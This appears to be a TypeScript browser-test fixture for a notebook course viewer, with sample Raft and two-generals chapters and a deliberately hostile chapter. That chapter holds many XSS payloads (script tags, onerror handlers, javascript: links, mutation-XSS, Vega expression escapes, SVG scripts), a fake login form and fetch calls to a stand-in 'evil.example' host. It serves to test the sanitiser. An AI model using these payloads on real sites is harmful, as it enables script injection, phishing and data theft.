/** The chapters and the exercise that the browser tests use. */
import { makeCourse, shown, type ChapterSource, type CourseFolder } from "./course";

const chart = {
  $schema: "https://vega.github.io/schema/vega-lite/v5.json",
  description: "Elections that are over, by time",
  width: 420,
  height: 180,
  data: { values: [150, 200, 300].map((ms, at) => ({ ms, share: (at + 1) / 3 })) },
  mark: { type: "line", point: true },
  encoding: { x: { field: "ms", type: "quantitative" }, y: { field: "share", type: "quantitative" } },
};

const raft: ChapterSource = {
  id: "14-raft-election",
  distlab: { title: "Raft: finding one leader", question: "Who leads?", minutes: 45, prerequisites: ["02"] },
  cells: [
    { id: "title", type: "markdown", source: "# Raft: finding one leader\n\n*Five servers and no one in charge.*" },
    {
      id: "prose",
      type: "markdown",
      source:
        "## A cluster without a head\n\nA timer fires after about $T + \\frac{T}{n+1}$.[^1]\n\n| size | survives |\n|---|---|\n| 3 | 1 |\n| 5 | 2 |\n\n[^1]: The mean of the smallest.\n\n<details><summary>Can two lead?</summary>\n\nIn *different* terms.\n\n</details>",
    },
    { id: "first", source: 'const leader = "C";\nleader;' },
    { id: "print", source: 'console.log("\\u001b[32melected\\u001b[0m", leader);' },
    {
      id: "chart",
      source: `({ toMimeBundle: () => ({ "application/vnd.vegalite.v5+json": ${JSON.stringify(chart)}, "text/plain": "elections" }) })`,
    },
    {
      id: "predict",
      source: `import { player, predict, raftElection, show, simulate } from "distlab";
predict({ id: "14-raft-election/no-randomness", question: "How long until there is a leader?", choices: ["150 ms", "never"] });`,
      outputs: [
        shown({
          "application/vnd.distlab.predict+json": {
            id: "14-raft-election/no-randomness",
            question: "How long until there is a leader?",
            choices: ["150 ms", "never"],
          },
          "text/plain": "Predict. How long until there is a leader?",
        }),
      ],
    },
    {
      id: "player",
      source: `const election = simulate({ protocol: raftElection(), seed: 7, untilMs: 600 });
show(player(election, { begin: "start" }));`,
    },
    { id: "more", type: "markdown", source: "## Your turn\n\nGrant a vote." },
    {
      id: "exercise",
      source: 'const check = async (id: string) => "checked " + id;\nawait check("14-raft-election/request-vote");',
    },
    { id: "last", source: "1 + 1" },
  ],
};

const short: ChapterSource = {
  id: "05-two-generals",
  distlab: { title: "Two generals", question: "What can be known?", minutes: 35 },
  cells: [
    { id: "title", type: "markdown", source: "# Two generals\n\n*What can be known?*" },
    { id: "one", source: "const one = 1;\none;" },
    { id: "two", source: "const two = 2;\ntwo;" },
    { id: "three", source: "const three = 3;\nthree;" },
  ],
};

/** The server that hostile cells call; a test puts its own in its place. */
const evil = "https://evil.example";

/** Everything in it would set `window.owned` or ask the `evil` server, if it ran in the page. */
const hostile: ChapterSource = {
  id: "06-failure-detection",
  cells: [
    {
      id: "title",
      type: "markdown",
      source: [
        "# Hostile",
        "<script>window.owned = 'markdown script'</script>",
        '<img src="x" onerror="window.owned = \'onerror\'">',
        "<svg onload=\"window.owned = 'svg onload'\"><a href=\"javascript:window.owned='svg link'\"><text>x</text></a></svg>",
        "[a link](javascript:window.owned='link')",
        '<a id="raw-link" href="javascript:window.owned=\'raw link\'">raw</a>',
        "<a href=\" &#106;avascript:window.owned='entity'\">entity</a>",
        '<iframe srcdoc="<script>parent.owned=1</script>"></iframe>',
        `<form action="${evil}"><input name="password"><button>Log in</button></form>`,
        "<style>body { display: none }</style>",
        '<div style="position:fixed;inset:0;z-index:99">over everything</div>',
        `<img src="${evil}/pixel.png">`,
        `<base href="${evil}/"><meta http-equiv="refresh" content="0;url=${evil}">`,
      ].join("\n\n"),
    },
    {
      id: "math",
      type: "markdown",
      source: "$\\href{javascript:window.owned='math'}{x}$ and [relative](14-raft-election.ipynb)",
    },
    {
      id: "mutation",
      type: "markdown",
      source:
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=window.owned='mxss'&gt;\">",
    },
    {
      id: "html",
      source: "1",
      outputs: [
        shown({
          "text/html": `<p id=out>before</p><script>document.getElementById('out').textContent = 'ran as ' + origin; try { parent.owned = 'frame' } catch (e) {} try { parent.document.title = 'owned' } catch (e) {} try { document.cookie } catch (e) {} fetch(location.origin + '/api/contents').catch(() => {}); fetch('${evil}/').catch(() => {})</script>`,
        }),
      ],
    },
    {
      id: "plain-html",
      source: "1",
      outputs: [shown({ "text/html": "<table><tr><td>harmless</td></tr></table><style>td { color: green }</style>" })],
    },
    {
      id: "handler",
      source: "1",
      outputs: [
        shown({ "text/html": "<img src=x onerror=\"window.owned='html onerror'; parent.owned='html onerror'\">" }),
      ],
    },
    {
      id: "svg",
      source: "1",
      outputs: [
        shown({
          "image/svg+xml": `<svg xmlns='http://www.w3.org/2000/svg' width='50' height='50' onload="window.owned='svg'"><script>window.owned='svg script'</script><foreignObject><iframe src='javascript:parent.owned=1'></iframe></foreignObject><a href="javascript:window.owned='svg a'"><rect width='50' height='50'/></a><animate attributeName='href' values="javascript:window.owned='animate'"/><image href='${evil}/x.png'/><style>@import '${evil}/x.css'; * { position: fixed; inset: 0 }</style></svg>`,
        }),
      ],
    },
    {
      id: "vega",
      source: "1",
      outputs: [
        shown({
          "application/vnd.vegalite.v5+json": {
            $schema: "https://vega.github.io/schema/vega-lite/v5.json",
            data: { values: [{ a: 1 }] },
            mark: { type: "point", size: 900 },
            transform: [
              { calculate: "datum.constructor.constructor(\"window.owned='vega'\")()", as: "b" },
              { calculate: "[].at.constructor(\"window.owned='vega 2'\")()", as: "c" },
            ],
            encoding: {
              x: { field: "a", type: "quantitative" },
              href: { value: "javascript:window.owned='vega href'" },
            },
            usermeta: {
              embedOptions: { ast: false, actions: true, sourceHeader: "<script>window.owned='meta'</script>" },
            },
          },
        }),
        shown({
          "application/vnd.vegalite.v5+json": {
            data: { url: `${evil}/data.json` },
            mark: "point",
            encoding: { x: { field: "a", type: "quantitative" } },
          },
          "text/plain": "a chart from elsewhere",
        }),
        shown({
          "application/vnd.vegalite.v5+json": {
            data: { url: "/api/contents?content=1" },
            mark: "point",
            encoding: { x: { field: "a", type: "quantitative" } },
          },
          "text/plain": "a chart of the server's own answers",
        }),
      ],
    },
    {
      id: "text",
      source: "1",
      outputs: [
        { output_type: "stream", name: "stdout", text: "<script>window.owned='text'</script>" },
        {
          output_type: "error",
          ename: "<img src=x onerror=window.owned=1>",
          evalue: "<b>x</b>",
          traceback: ["\u001b[31m<script>window.owned='trace'</script>"],
        },
        shown({ "text/markdown": "<script>window.owned='output markdown'</script>[x](javascript:window.owned='m')" }),
        shown({ "application/vnd.distlab.player+json": { hostile: "<script>window.owned='player'</script>" } }),
        shown({ "application/javascript": "window.owned = 'javascript'", "text/plain": "no script" }),
      ],
    },
  ],
};

export const stub = `/** Grants a vote, or refuses it. */
export function requestVote(term: number, currentTerm: number): boolean {
  throw new Error("write me");
}
`;

/** @param caller the address that hostile cells call */
export function fixtureCourse(caller = evil): CourseFolder {
  const threat = JSON.parse(JSON.stringify(hostile).replaceAll(evil, caller)) as ChapterSource;
  return makeCourse([short, threat, raft], { "14-raft-election/request-vote": stub });
}
